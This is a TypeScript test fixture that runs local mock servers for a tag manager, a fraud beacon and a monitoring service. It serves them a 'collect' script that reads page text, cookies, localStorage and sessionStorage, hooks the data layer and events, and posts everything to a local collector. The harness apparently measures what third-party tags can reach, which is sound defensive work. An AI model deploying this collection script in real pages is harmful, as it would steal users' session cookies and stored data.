// Third parties as servers on this machine: a tag manager whose tags send on whatever a script of a page can read, a
// fraud beacon and a monitoring script. Everything that reaches them is recorded.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export type Reached = { script: string; url: string; headers: IncomingMessage['headers']; body: string };

export type Outside = {
  /** In the form of a site's tags. */
  tags: {
    tagManager: { url: string; id: string; origins: string[] };
    fraudBeacon: { url: string };
    monitoring: { url: string; key: string };
  };
  origins: string[];
  reached: Reached[];
  /** The tag manager's: the items of the data layer that it has seen, in order. */
  layer: () => unknown[];
  close: () => Promise<void>;
};

type Party = { name: string; server: Server; origin: string };

export async function openOutside(): Promise<Outside> {
  const reached: Reached[] = [];
  const open = async (name: string): Promise<Party> => {
    const server = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.once('end', () => {
        reached.push({ script: name, url: request.url ?? '', headers: request.headers, body });
        const isScript = request.url?.includes('.js');
        response.setHeader('Content-Type', isScript ? 'text/javascript' : 'text/plain');
        response.end(isScript ? script(name) : '');
      });
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    return { name, server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
  };
  const [manager, collector, fraud, monitor] = [
    await open('manager'),
    await open('collector'),
    await open('fraud'),
    await open('monitor'),
  ];
  const script = (name: string) =>
    `(${collect.toString()})(${JSON.stringify(`${collector.origin}/collect`)}, ${JSON.stringify(name)})`;
  const parties = [manager, collector, fraud, monitor];
  return {
    tags: {
      tagManager: { url: `${manager.origin}/gtm.js`, id: 'GTM-TEST1', origins: [collector.origin] },
      fraudBeacon: { url: `${fraud.origin}/beacon.js` },
      monitoring: { url: `${monitor.origin}/monitor.js`, key: 'key-1' },
    },
    origins: parties.map(({ origin }) => origin),
    reached,
    layer: () =>
      // Each script sends on what it sees, and requests overtake each other.
      reached
        .flatMap(({ url, body }) => (url === '/collect' ? [JSON.parse(body) as Collected] : []))
        .filter(({ by }) => by === 'manager')
        .toSorted((one, other) => one.at - other.at || one.no - other.no)
        .map(({ item }) => item),
    async close() {
      for (const { server } of parties) {
        server.closeAllConnections();
        await new Promise((done) => server.close(done));
      }
    },
  };
}

/** What a script sends: its name, the time, a serial number, and what it has seen. */
type Collected = { by: string; at: number; no: number; item: unknown };

/** Runs in the page and reads as much about the page as a tag can, except what is in its fields. */
function collect(to: string, by: string): void {
  let no = 0;
  const send = (item: unknown) => {
    const seen = {
      by,
      at: performance.timeOrigin,
      no: no++,
      item: typeof item === 'object' && item !== null && 'length' in item ? Array.from(Object(item)) : item,
      href: location.href,
      referrer: document.referrer,
      title: document.title,
      text: document.body.innerText,
      resources: performance.getEntries().map((entry) => entry.name),
      storage: JSON.stringify(localStorage),
      session: JSON.stringify(sessionStorage),
      cookie: document.cookie,
      history: history.state as unknown,
    };
    void fetch(to, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen), keepalive: true });
  };
  const layer = (window.dataLayer ??= []);
  for (const item of layer) send(item);
  const { push } = layer;
  layer.push = (...items) => {
    for (const item of items) send(item);
    return push.apply(layer, items);
  };
  for (const type of ['pushState', 'replaceState', 'popstate', 'pagehide', 'scroll', 'input'])
    window.addEventListener(type, () => send(type));
  window.navigation?.addEventListener('currententrychange', () => send('page'));
  setInterval(() => send('still here'), 500);
}
